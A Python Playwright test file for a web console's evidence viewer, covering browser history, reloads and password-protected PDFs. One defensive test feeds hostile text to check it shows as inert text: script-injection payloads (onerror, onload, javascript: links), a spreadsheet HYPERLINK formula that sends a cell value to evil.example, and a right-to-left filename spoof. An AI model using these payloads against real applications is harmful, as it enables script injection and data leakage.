"""Evidence view: the browser's history, and pages of encrypted PDFs."""

import io
from collections.abc import Iterator
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Locator, expect

from tests.services.console.browser.console_page import find_accessibility_violations
from tests.services.console.browser.static_pages import AppPage, Failure

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAGE = "GET /rag/documents/doc_1/pages/1"
GEOMETRY = {
    "page": 1,
    "pages": 3,
    "width": 600,
    "height": 800,
    "boxes": [[0.1, 0.1, 0.5, 0.15]],
    "exact": True,
    "coverage": 1.0,
}


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(
        viewport={"width": 1280, "height": 900}, service_workers="block", reduced_motion="reduce"
    )
    yield context
    context.close()


def draw_page() -> bytes:
    content = io.BytesIO()
    Image.new("RGB", (60, 80), "white").save(content, "WEBP")
    return content.getvalue()


def open_evidence(app: AppPage, *filenames: str) -> Locator:
    """Open the evidence view for the first of *filenames*."""
    app.run(
        """
        const { openEvidence } = await load("model/evidence.js");
        const base = { document_id: "doc_1", page: 1, start: 0, end: 9, quote: "a pump" };
        const citations = argument.map((filename, marker) => ({ ...base, filename, marker }));
        openEvidence(citations[0], citations);
        """,
        list(filenames),
    )
    evidence = app.page.get_by_role("region", name="Evidence")
    evidence.wait_for()
    return evidence


def test_back_closes_the_view_and_forward_opens_it_again(context: BrowserContext) -> None:
    app = AppPage(context, {PAGE: GEOMETRY, f"{PAGE}.webp": draw_page()})
    app.open("/documents")
    page = app.go_to("/collections")
    page.locator("#main h1", has_text="Collections").wait_for()
    evidence = open_evidence(app, "first.pdf", "second.pdf")
    expect(evidence.locator(".page-image.loaded")).to_be_visible()
    evidence.get_by_role("button", name="Next source").click()
    expect(evidence).to_contain_text("second.pdf")
    page.go_back()
    expect(evidence).to_have_count(0)
    expect(page.locator("#main h1")).to_have_text("Collections")
    page.go_forward()
    expect(evidence).to_contain_text("second.pdf")
    page.keyboard.press("Escape")
    expect(evidence).to_have_count(0)
    # The closed view has left its entry: Back shows the screen before.
    page.wait_for_function("!history.state?.evidence")
    page.go_back()
    expect(page.locator("#main h1")).to_have_text("Documents")
    expect(evidence).to_have_count(0)
    assert app.findings == []


def test_view_that_was_open_before_a_reload_can_be_left(context: BrowserContext) -> None:
    app = AppPage(context, {PAGE: GEOMETRY, f"{PAGE}.webp": draw_page()})
    app.open("/documents")
    page = app.go_to("/collections")
    evidence = open_evidence(app, "first.pdf")
    page.reload()
    page.locator("#main h1").wait_for()
    expect(evidence).to_have_count(0)
    evidence = open_evidence(app, "second.pdf")
    page.go_back()
    expect(evidence).to_have_count(0)
    expect(page.locator("#main h1")).to_have_text("Collections")


@pytest.mark.parametrize(
    ("filename", "text"),
    [
        ("page.html", '<img src=x onerror="alert(1)"> <iframe srcdoc="<script>alert(1)</script>">'),
        ("drawing.svg", "<svg onload=alert(1)><script>alert(1)</script></svg>"),
        ("table.csv", '=HYPERLINK("https://evil.example/?x="&A1);@SUM(1);<b onclick=alert(1)>'),
        ("notes.md", "[a](javascript:alert(1)) ![b](https://evil.example/b.png) \u202egnp.exe"),
    ],
)
def test_hostile_text_of_a_document_is_shown_as_text(
    context: BrowserContext, filename: str, text: str
) -> None:
    pages = [{"start": 0, "text": text}]
    app = AppPage(context, {"GET /rag/documents/doc_1/text": {"pages": pages}})
    app.open("/documents")
    app.run(
        """
        const { openEvidence } = await load("model/evidence.js");
        const place = { document_id: "doc_1", page: null, start: 0, end: argument.text.length };
        openEvidence({ ...place, filename: argument.filename, quote: argument.text, marker: 1 });
        """,
        {"filename": filename, "text": text},
    )
    evidence = app.page.get_by_role("region", name="Evidence")
    mark = evidence.locator("mark")
    expect(mark).to_be_visible()
    assert mark.inner_text().strip() == text
    assert evidence.locator("iframe, script, b, img, .evidence-text svg").count() == 0
    assert mark.locator("*").count() == 0
    assert app.findings == []


def encrypted_answers(app_headers: Any) -> dict[str, Any]:
    def answer(result: Any) -> Any:
        def respond(*_: object) -> Any:
            password = app_headers().get("x-document-password")
            if password != "open%20s%C3%A9same":
                raise Failure(409, "page_password_required", "A password is required.")
            return result

        return respond

    return {PAGE: answer(GEOMETRY), f"{PAGE}.webp": answer(draw_page())}


def open_encrypted(context: BrowserContext, **options: Any) -> AppPage:
    app = AppPage(context, **options)
    app.answers |= encrypted_answers(lambda: app.headers)
    app.open("/documents")
    return app


def test_encrypted_pdf_is_shown_with_its_password(context: BrowserContext) -> None:
    app = open_encrypted(context)
    evidence = open_evidence(app, "locked.pdf")
    expect(evidence).to_contain_text("This PDF is protected with a password")
    for theme in ("light", "dark"):
        app.page.evaluate("theme => (document.documentElement.dataset.theme = theme)", theme)
        assert find_accessibility_violations(app.page) == []
    field = evidence.get_by_label("Password of the file")
    field.fill("wrong")
    field.press("Enter")
    expect(evidence.get_by_role("alert")).to_contain_text("The password is wrong")
    expect(field).to_be_focused()
    field.fill("open sésame")
    evidence.get_by_role("button", name="Show the page").click()
    expect(evidence.locator(".page-image.loaded .quote-mark")).to_be_visible()
    evidence.get_by_role("button", name="Zoom in").click()
    expect(evidence.locator(".page-image.loaded img")).to_be_visible()
    urls = [(name, query) for name, query, _ in app.calls]
    assert not any("same" in name + str(query) for name, query in urls)
    assert (
        app.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])").count("same")
        == 0
    )
    assert app.findings == []


def test_text_of_an_encrypted_pdf_is_shown_instead(context: BrowserContext) -> None:
    app = open_encrypted(context)
    pages = [{"page": 1, "start": 0, "text": "of a pump it"}]
    app.answers["GET /rag/documents/doc_1/text"] = {"pages": pages, "next_cursor": None}
    evidence = open_evidence(app, "locked.pdf")
    evidence.get_by_role("button", name="Show the text instead").click()
    expect(evidence).to_contain_text("of a pump it")


def test_password_is_forgotten_when_another_user_signs_in(context: BrowserContext) -> None:
    app = open_encrypted(context)
    result = app.run(
        """
        const evidence = await load("model/evidence.js");
        const session = await load("model/session.js");
        evidence.setDocumentPassword("doc_1", "open sésame");
        session.user.value = { ...session.user.peek(), id: "user-2" };
        await new Promise((resolve) => setTimeout(resolve, 50));
        return evidence.hasDocumentPassword("doc_1");
        """
    )
    assert result is False


def test_form_for_the_password_fits_into_a_narrow_window(context: BrowserContext) -> None:
    app = open_encrypted(context, locale="de")
    app.page.set_viewport_size({"width": 320, "height": 700})
    app.run(
        """
        const { openEvidence } = await load("model/evidence.js");
        openEvidence({ document_id: "doc_1", filename: "a.pdf", page: 1, start: 0, end: 9 });
        """
    )
    expect(app.page.get_by_text("Diese PDF-Datei ist mit einem Passwort")).to_be_visible()
    assert app.page.evaluate("document.documentElement.scrollWidth") <= 320
    assert find_accessibility_violations(app.page) == []
